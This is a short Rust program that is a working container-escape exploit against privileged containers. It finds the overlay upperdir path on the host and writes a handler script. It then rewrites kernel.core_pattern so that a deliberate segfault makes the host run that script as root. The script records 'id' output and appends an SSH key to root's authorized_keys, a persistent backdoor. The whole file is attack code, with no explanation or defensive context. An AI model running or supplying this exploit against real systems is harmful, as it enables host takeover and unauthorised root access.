use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

const HANDLER: &str = "/opt/collect.sh";

fn upper() -> Option<String> {
    let mounts = fs::read_to_string("/proc/self/mounts").ok()?;
    let line = mounts.lines().find(|l| l.starts_with("overlay / "))?;
    line.split(',')
        .find_map(|o| o.strip_prefix("upperdir=").map(String::from))
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let host = upper().ok_or("no overlay")?;
    fs::write(
        HANDLER,
        format!("#!/bin/sh\nid > {host}/opt/res\nmkdir -p /root/.ssh\necho 'ssh-ed25519 AAAAC3madeup op' >> /root/.ssh/authorized_keys\n"),
    )?;
    fs::set_permissions(HANDLER, fs::Permissions::from_mode(0o755))?;
    fs::write("/proc/sys/kernel/core_pattern", format!("|{host}{HANDLER}"))?;
    Command::new("sh").args(["-c", "ulimit -c unlimited; kill -SEGV $$"]).status()?;
    std::thread::sleep(std::time::Duration::from_secs(2));
    println!("{}", fs::read_to_string("/opt/res").unwrap_or_default());
    Ok(())
}
